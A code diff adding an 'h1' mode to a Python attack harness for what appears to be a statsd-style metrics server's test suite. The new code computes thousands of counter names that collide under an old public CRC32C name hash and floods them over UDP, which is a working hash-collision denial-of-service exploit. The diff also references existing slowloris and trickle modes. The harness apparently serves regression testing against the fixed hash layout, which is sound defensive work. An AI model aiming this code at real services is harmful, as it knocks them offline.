@@ -15,6 +15,11 @@ and prints one JSON line of what it saw; run.sh asserts on it.
   trickle SOCKET                       connects to the management socket and sends
                                        "ready" one byte every --every-s seconds; reports
                                        when the server closed it.
+  h1 NODE_IP PORT                      --names N statsd counter names that all collide
+                                       under the name hash before layout 6 (CRC32C, the
+                                       public seed 0x7a11c0de: one hash, so one probe run
+                                       at any table size), sent --rounds times as statsd
+                                       lines to NODE_IP:PORT (UDP).
 
 Nothing is sent anywhere but the test's namespaces."""
 import argparse
@@ -177,6 +182,101 @@ def attack_trickle(args):
     return 0
 
 
+# ---- H1: names colliding under the old public name hash ---------------------------
+
+OLD_NAME_HASH_SEED = 0x7A11C0DE
+CRC32C_TABLE = []
+for _byte in range(256):
+    _crc = _byte
+    for _ in range(8):
+        _crc = (_crc >> 1) ^ (0x82F63B78 & -(_crc & 1))
+    CRC32C_TABLE.append(_crc)
+
+
+def crc32c_raw(data, crc):
+    """CRC32C as rte_hash_crc updates it: no inversion in or out (tally_crc32c)."""
+    for byte in data:
+        crc = CRC32C_TABLE[(crc ^ byte) & 0xFF] ^ (crc >> 8)
+    return crc
+
+
+def old_name_hash(name):
+    return crc32c_raw(name, OLD_NAME_HASH_SEED)
+
+
+def colliding_names(count, target=0x1234ABCD, free=40):
+    """count names of the form h1.P.xxxx whose old hash is target. The raw CRC is affine
+    in the name's bits, so flipping bit 1 of a free byte ('a' <-> 'c') xors a fixed
+    32-bit vector into it: solve the 32 linear equations over GF(2), and every choice
+    of the free variables left is one more name."""
+    names = []
+    prefix_number = 0
+    while len(names) < count:
+        base = bytearray(b"h1.%d." % prefix_number + b"a" * free)
+        start = len(base) - free
+        zero = bytes(len(base))
+        columns = []
+        for i in range(free):
+            delta = bytearray(zero)
+            delta[start + i] = 0x02
+            columns.append(crc32c_raw(bytes(delta), 0))
+        want = old_name_hash(bytes(base)) ^ target
+        # Gaussian elimination: rows are bit equations, unknowns the free bytes.
+        rows = [(sum(((columns[i] >> bit) & 1) << i for i in range(free)), (want >> bit) & 1)
+                for bit in range(32)]
+        pivots = []
+        for column in range(free):
+            for r in range(len(pivots), len(rows)):
+                if rows[r][0] >> column & 1:
+                    rows[len(pivots)], rows[r] = rows[r], rows[len(pivots)]
+                    break
+            else:
+                continue
+            pivot = rows[len(pivots)]
+            rows = [(m ^ pivot[0], v ^ pivot[1]) if i != len(pivots) and m >> column & 1 else (m, v)
+                    for i, (m, v) in enumerate(rows)]
+            pivots.append(column)
+        if any(m == 0 and v for m, v in rows[len(pivots):]):
+            prefix_number += 1
+            continue
+        free_columns = [c for c in range(free) if c not in pivots][:8]
+        for choice in range(1 << len(free_columns)):
+            chosen = {c for k, c in enumerate(free_columns) if choice >> k & 1}
+            for i, column in enumerate(pivots):
+                mask, value = rows[i]
+                for c in chosen:
+                    if mask >> c & 1:
+                        value ^= 1
+                if value:
+                    chosen.add(column)
+            name = bytearray(base)
+            for c in chosen:
+                name[start + c] ^= 0x02
+            assert old_name_hash(bytes(name)) == target
+            names.append(bytes(name))
+            if len(names) == count:
+                break
+        prefix_number += 1
+    return names
+
+
+def attack_h1(args):
+    names = colliding_names(args.names)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sent = 0
+    for _ in range(args.rounds):
+        for first in range(0, len(names), 16):
+            payload = b"".join(name + b":1|c\n" for name in names[first:first + 16])
+            sock.sendto(payload, (args.node_ip, args.port))
+            sent += 1
+            if sent % 64 == 0:
+                time.sleep(0.002)  # the veth's queue, not the node, is the limit here
+    print(json.dumps({"names": len(names), "rounds": args.rounds, "datagrams": sent,
+                      "old_hash": "%08x" % old_name_hash(names[0]),
+                      "distinct_old_hashes": len({old_name_hash(n) for n in names})}))
+    return 0
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     sub = p.add_subparsers(dest="attack", required=True)
@@ -198,8 +298,14 @@ def main():
     trickle.add_argument("socket")
     trickle.add_argument("--every-s", type=float, default=1.0)
     trickle.add_argument("--bytes", type=int, default=60)
+    h1 = sub.add_parser("h1")
+    h1.add_argument("node_ip")
+    h1.add_argument("port", type=int)
+    h1.add_argument("--names", type=int, default=4096)
+    h1.add_argument("--rounds", type=int, default=3)
     args = p.parse_args()
-    return {"l1": attack_l1, "slowloris": attack_slowloris, "trickle": attack_trickle}[args.attack](args)
+    return {"l1": attack_l1, "slowloris": attack_slowloris, "trickle": attack_trickle,
+            "h1": attack_h1}[args.attack](args)
 
 
 if __name__ == "__main__":
